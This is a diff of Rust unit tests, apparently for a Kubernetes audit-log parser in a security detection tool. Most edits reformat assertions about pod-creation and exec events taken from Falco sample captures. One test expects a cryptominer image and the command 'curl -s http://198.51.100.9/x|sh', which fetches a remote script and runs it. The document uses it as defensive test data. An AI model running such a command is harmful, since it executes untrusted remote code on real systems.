+        assert_eq!(
+            p.containers[0].image.to_string(),
+            "docker.io/xmrig/xmrig:latest"
+        );
+        let EventKind::Process(x) = &ev[1].kind else {
+            panic!()
+        };
         assert_eq!(x.cmdline, "sh -c curl -s http://198.51.100.9/x|sh");
-        assert_eq!(ev[1].dedupe.as_deref(), Some("k8s-audit:d2b5f4a3-8c7e-4f60-ab9c-1d2e3f4a5b6c"));
+        assert_eq!(
+            ev[1].dedupe.as_deref(),
+            Some("k8s-audit:d2b5f4a3-8c7e-4f60-ab9c-1d2e3f4a5b6c")
+        );
     }
 
     /// Falco's v1beta1 minikube captures and the AKS-wrapped v1 sample.
@@ -936,25 +1156,54 @@ mod tests {
         assert!(by_file["attach_pod.json"].is_empty());
         assert!(by_file["aks/test-kube-audit.log"].is_empty());
         let e = &by_file["create_nginx_pod_privileged.json"][0];
-        assert_eq!(e.time, Ts::parse_rfc3339("2018-10-25T14:09:12.581541Z").unwrap());
-        assert_eq!(e.dedupe.as_deref(), Some("k8s-audit:a362d22b-db3c-4590-9505-23782f12925f"));
-        let EventKind::PodCreate(p) = &e.kind else { panic!() };
+        assert_eq!(
+            e.time,
+            Ts::parse_rfc3339("2018-10-25T14:09:12.581541Z").unwrap()
+        );
+        assert_eq!(
+            e.dedupe.as_deref(),
+            Some("k8s-audit:a362d22b-db3c-4590-9505-23782f12925f")
+        );
+        let EventKind::PodCreate(p) = &e.kind else {
+            panic!()
+        };
         assert_eq!(p.pod, "nginx-deployment-5cdcc99dbf-rgw6z");
         assert_eq!(p.namespace, "default");
-        assert_eq!(p.actor.as_deref(), Some("system:serviceaccount:kube-system:replicaset-controller"));
+        assert_eq!(
+            p.actor.as_deref(),
+            Some("system:serviceaccount:kube-system:replicaset-controller")
+        );
         assert_eq!(p.containers.len(), 1);
-        assert_eq!(p.containers[0].image.to_string(), "docker.io/library/nginx:latest");
+        assert_eq!(
+            p.containers[0].image.to_string(),
+            "docker.io/library/nginx:latest"
+        );
         assert_eq!(p.containers[0].pull_policy.as_deref(), Some("Always"));
-        let EventKind::PodCreate(p) = &by_file["create_pod_kube_system_namespace.json"][0].kind else { panic!() };
-        assert_eq!((p.namespace.as_str(), p.pod.as_str()), ("kube-system", "nginx-deployment-7998647bdf-7q2sp"));
-        let EventKind::PodCreate(p) = &by_file["create_nginx_pod_unprivileged.json"][0].kind else { panic!() };
+        let EventKind::PodCreate(p) = &by_file["create_pod_kube_system_namespace.json"][0].kind
+        else {
+            panic!()
+        };
+        assert_eq!(
+            (p.namespace.as_str(), p.pod.as_str()),
+            ("kube-system", "nginx-deployment-7998647bdf-7q2sp")
+        );
+        let EventKind::PodCreate(p) = &by_file["create_nginx_pod_unprivileged.json"][0].kind else {
+            panic!()
+        };
         assert_eq!(p.pod, "nginx-deployment-78f5d695bd-nxqz5");
         let e = &by_file["exec_pod.json"][0];
-        assert_eq!(e.time, Ts::parse_rfc3339("2018-10-26T13:38:34.902914Z").unwrap());
-        let EventKind::Process(x) = &e.kind else { panic!() };
+        assert_eq!(
+            e.time,
+            Ts::parse_rfc3339("2018-10-26T13:38:34.902914Z").unwrap()
+        );
+        let EventKind::Process(x) = &e.kind else {
+            panic!()
+        };
         assert_eq!((x.exe.as_str(), x.cmdline.as_str()), ("bash", "bash"));
         assert_eq!(x.user.as_deref(), Some("minikube-user"));
-        let Placement::Container(c) = &x.placement else { panic!() };
+        let Placement::Container(c) = &x.placement else {
+            panic!()
+        };
         assert_eq!(c.name.as_deref(), Some("nginx1"));
         assert_eq!(c.pod.as_deref(), Some("nginx-deployment-7998647bdf-phvq7"));
     }
